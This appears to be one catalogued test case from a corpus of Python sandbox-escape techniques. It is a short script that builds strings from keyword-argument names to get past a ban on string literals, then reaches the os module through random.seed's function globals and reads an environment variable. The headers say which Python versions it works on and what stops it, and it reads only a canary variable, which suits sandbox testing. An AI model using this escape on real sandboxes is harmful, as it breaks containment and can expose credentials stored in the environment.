# id: strings-from-keyword-names
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: pyjailbreaker's converter for jails without string literals
# technique: keyword names arrive as the keys of a dictionary, so strings are had where the grammar refuses them
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random


def names(**keywords):
    return [*keywords]


function, namespace, module, key = names(__func__=0, __globals__=0, _os=0, PADCELL_CANARY=0)
print(getattr(getattr(random.seed, function), namespace)[module].environ[key])
